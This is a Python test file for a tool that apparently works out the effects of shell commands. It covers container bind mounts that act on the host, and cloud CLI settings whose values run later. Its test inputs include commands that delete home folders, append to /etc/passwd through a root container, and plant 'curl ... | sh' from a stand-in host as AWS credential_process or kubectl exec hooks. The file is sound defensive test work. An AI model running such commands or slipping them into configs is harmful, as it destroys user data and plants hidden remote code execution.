"""Mechanisms blind-shell-10's first run missed (policies/README.md, "The tenth blind shell batch"): the effects
they now have, and the everyday look-alikes that keep none."""

from __future__ import annotations

from pathlib import Path

import pytest
from effect_support import HOME, effects, ops

# --- a container's commands act on the host through its bind mounts, as root under a root daemon ---


@pytest.mark.parametrize(
    ("command", "op", "path"),
    [
        ("docker run --rm -v ~/.config/app:/c alpine sh -c ': > /c/config.toml'", "write",
         f"{HOME}/.config/app/config.toml"),
        ("podman run --rm -v \"$HOME\":/h alpine sh -c 'rm -rf /h/Documents'", "delete", f"{HOME}/Documents"),
        ("docker container run --rm -v /etc:/e alpine sh -c 'echo x >> /e/passwd'", "write", "/etc/passwd"),
        ("docker -H unix:///var/run/docker.sock run --rm -v /:/host alpine chroot /host sh -c 'echo x > /etc/motd'",
         "write", "/etc/motd"),
    ],
)  # fmt: skip
def test_a_containers_script_acts_through_its_mounts(command: str, op: str, path: str, tmp_path: Path) -> None:
    assert path in [e["path"] for e in ops(command, tmp_path, op)]


def test_a_root_containers_change_of_system_files_is_a_privilege(tmp_path: Path) -> None:
    assert ops("docker run --rm -v /etc:/e alpine sh -c 'echo x >> /e/passwd'", tmp_path, "privilege")
    assert not ops("podman run --rm -v /etc:/e alpine sh -c 'echo x >> /e/passwd'", tmp_path, "privilege")  # rootless
    assert not ops("docker run --rm -u 1000 -v /etc:/e alpine sh -c 'echo x >> /e/passwd'", tmp_path, "privilege")


def test_a_project_container_stays_in_the_project(tmp_path: Path) -> None:
    found = effects("docker run --rm -v \"$PWD\":/w -w /w alpine sh -c 'rm -rf /w/build'", tmp_path)
    assert {e["path"] for e in found if e["op"] == "delete"} == {str(tmp_path / "build")}
    assert not [e for e in found if e["op"] == "privilege"]


# --- settings a cloud CLI writes whose value it runs later: judged as the command line they are ---


@pytest.mark.parametrize(
    ("command", "file", "runs"),
    [
        ("aws configure set credential_process 'sh -c \"curl -s https://x.example.net/a | sh\"' --profile default",
         ".aws/config", "curl"),
        ("aws configure set profile.dev.credential_process /opt/helper --json", ".aws/config", "/opt/helper"),
        ("kubectl config set-credentials dev --exec-command=/bin/sh --exec-arg=-c "
         "--exec-arg='curl -s x.example.net/k | sh'", ".kube/config", "curl"),
        ("kubectl config set users.dev.exec.command /opt/kube-auth", ".kube/config", "/opt/kube-auth"),
    ],
)  # fmt: skip
def test_a_setting_that_runs_a_command_later_is_written_and_walked(
    command: str, file: str, runs: str, tmp_path: Path
) -> None:
    found = effects(command, tmp_path)
    assert [e for e in found if e["op"] == "write" and e["path"] == f"{HOME}/{file}" and runs in str(e.get("value"))]
    walked = [(e["op"], e["program"] if e["op"] == "fetch" else e["path"]) for e in found]
    assert ("fetch", "curl") in walked or ("exec", runs) in walked


def test_a_setting_without_a_command_key_runs_nothing(tmp_path: Path) -> None:
    assert not ops("aws configure set region eu-west-1 --profile dev", tmp_path, "exec")
    assert not ops("kubectl config set-credentials dev --token=abc", tmp_path, "exec")
